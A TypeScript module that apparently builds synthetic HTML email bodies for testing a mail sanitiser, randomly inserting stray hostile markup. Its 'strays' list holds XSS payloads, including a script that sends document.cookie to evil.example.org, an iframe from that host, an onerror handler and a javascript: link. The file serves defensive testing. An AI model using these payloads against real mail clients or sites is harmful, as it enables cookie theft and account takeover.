import { escapeMarkup } from '../escape-markup.ts';
import type { Random } from './random.ts';

const day = 86_400_000;

/** What goes around the text of a mail. */
export interface MailParts {
  readonly text: string;
  readonly greeting: string;
  readonly farewell: string;
  readonly sender: string;
  /** The text answered to, with its lead line; `null` for a first mail. */
  readonly quoted: { lead: string; text: string } | null;
}

function paragraphs(text: string): string {
  return text
    .split('\n')
    .map((line) => `<p>${escapeMarkup(line)}</p>`)
    .join('');
}

// What mail programs and attackers leave in mails; whoever shows a mail has to clean it.
const strays = [
  '<script>window.top.location="https://evil.example.org/?c="+document.cookie</script>',
  '<img src="https://pixel.example.net/open.gif?id=77" width="1" height="1" onerror="alert(1)" alt="">',
  '<style>p { color: red }</style><!-- made with a word processor -->',
  '<p><a href="javascript:alert(document.domain)">view online</a></p>',
  '<p><img src="https://static.example.com/signature.png" alt="Logo" style="height:40px"></p>',
  '<iframe src="https://evil.example.org/frame"></iframe>',
];

/** Writes a mail as HTML: text, signature, sometimes the mail it answers and things nobody wants. */
export function mailBody(parts: MailParts, random: Random): string {
  const signature = `<p>${escapeMarkup(parts.farewell)}<br>${escapeMarkup(parts.sender)}</p>`;
  const quote = parts.quoted
    ? `<div>${escapeMarkup(parts.quoted.lead)}</div><blockquote type="cite">${paragraphs(parts.quoted.text)}</blockquote>`
    : '';
  const stray = random.chance(0.15) ? random.pick(strays) : '';
  return `<div dir="ltr"><p>${escapeMarkup(parts.greeting)}</p>${paragraphs(parts.text)}${signature}${stray}${quote}</div>`;
}

/** A date as a mail program writes it into the lead line of a quotation. */
export function quoteDate(at: number): string {
  return new Date(Math.floor(at / day) * day).toISOString().slice(0, 10);
}
